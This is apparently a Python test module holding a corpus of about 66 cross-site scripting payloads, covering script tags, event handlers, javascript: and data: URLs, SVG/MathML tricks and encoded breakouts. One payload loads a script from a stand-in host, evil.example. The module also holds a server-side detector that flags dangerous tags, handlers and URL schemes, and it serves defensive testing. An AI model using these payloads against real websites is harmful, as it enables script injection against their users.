"""XSS corpus: script tags, event handlers, javascript:/data: URLs, SVG/MathML, encoded variants, breakouts.

Every vector that would inject an element carries a `data-xss` attribute or is an `xss-probe` element,
so a browser test can prove none was created; the ones that would run code call alert(), so a
dialog proves execution. find_dangerous_markup() is the server-side detector for the same things.
"""

from html.parser import HTMLParser

VECTORS = [
    "<script>alert(1)</script>",
    "<script data-xss src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"]}</script><script>alert(1)</script>',
    "</style><script>alert(1)</script>",
    "<SCRIPT SRC=data:,alert(1)></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1) data-xss>",
    '<img src="x" onerror="alert(1)" data-xss>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1) data-xss>",
    "<img src=x:alert(1) onerror=eval(src) data-xss>",
    "<svg onload=alert(1) data-xss>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s data-xss>",
    '<svg><a xlink:href="javascript:alert(1)" data-xss><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-xss>",
    "<body onload=alert(1) data-xss>",
    '<iframe src="javascript:alert(1)" data-xss></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>" data-xss></iframe>',
    '<a href="javascript:alert(1)" data-xss>x</a>',
    '<a href="JaVaScRiPt:alert(1)" data-xss>x</a>',
    '<a href="java&#x09;script:alert(1)" data-xss>x</a>',
    '<a href=" javascript:alert(1)" data-xss>x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)" data-xss>x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" data-xss>x</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" onmouseover="alert(1)" data-xss="',
    "' onmouseover='alert(1)' data-xss='",
    '" autofocus onfocus="alert(1)" data-xss="',
    "' autofocus onfocus='alert(1)' data-xss='",
    '" autofocus onfocus=alert(1) data-xss x="',
    "<details open ontoggle=alert(1) data-xss>",
    "<input autofocus onfocus=alert(1) data-xss>",
    "<select autofocus onfocus=alert(1) data-xss></select>",
    "<video><source onerror=alert(1) data-xss></video>",
    "<audio src=x onerror=alert(1) data-xss>",
    '<object data="javascript:alert(1)" data-xss></object>',
    '<embed src="javascript:alert(1)" data-xss>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">',
    '<!--<img src="--><img src=x onerror=alert(1) data-xss>',
    "<style>@import 'javascript:alert(1)';</style><xss-probe></xss-probe>",
    '<div style="background:url(javascript:alert(1))" data-xss>x</div>',
    '<form action="javascript:alert(1)" data-xss><button>x</button></form>',
    '<button formaction="javascript:alert(1)" data-xss>x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" data-xss>',
    '<base href="javascript:alert(1)//" data-xss>',
    "<link rel=import href=data:text/html,&lt;script&gt;alert(1)&lt;/script&gt; data-xss>",
    "<marquee onstart=alert(1) data-xss>x</marquee>",
    "<xss-probe data-xss onclick=alert(1)>click</xss-probe>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%20data-xss%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "';alert(1);//",
    '";alert(1);//',
    "<![CDATA[<script>alert(1)</script>]]>",
    '\\"><img src=x onerror=alert(1) data-xss>',
    "{{ 7|add:7 }}{% now 'Y' %}<xss-probe></xss-probe>",
    "<template><img src=x onerror=alert(1) data-xss></template><xss-probe></xss-probe>",
]

assert len(VECTORS) >= 50 and len(set(VECTORS)) == len(VECTORS)

DANGEROUS_TAGS = {
    "iframe",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "xss-probe",
    "marquee",
    "style",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:application")
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


class _Detector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        where = self.getpos()
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> at {where}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}> at {where}")
            if name == "data-xss":
                self.problems.append(f"injected <{tag} data-xss> at {where}")
            if name in ("style", "srcdoc"):
                self.problems.append(f"{name}= on <{tag}> at {where}")
            if name in URL_ATTRIBUTES:
                squashed = "".join(ch for ch in value if ch > " ").lower()
                if squashed.startswith(BAD_SCHEMES):
                    self.problems.append(f"{name}={value!r} on <{tag}> at {where}")
        if tag == "script":
            src = attributes.get("src")
            if src is not None:
                if not src.startswith("/") or src.startswith("//"):
                    self.problems.append(f"third-party script {src!r} at {where}")
            elif attributes.get("type") not in DATA_SCRIPT_TYPES:
                self.problems.append(f"inline <script> at {where}")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append(f"meta refresh at {where}")
        if tag == "link" and (attributes.get("rel") or "").lower() == "import":
            self.problems.append(f"link rel=import at {where}")


def find_dangerous_markup(html: str) -> list[str]:
    """Executable or injected markup in a page: inline scripts, handlers, bad URLs, probe elements."""
    detector = _Detector()
    detector.feed(html)
    detector.close()
    return detector.problems
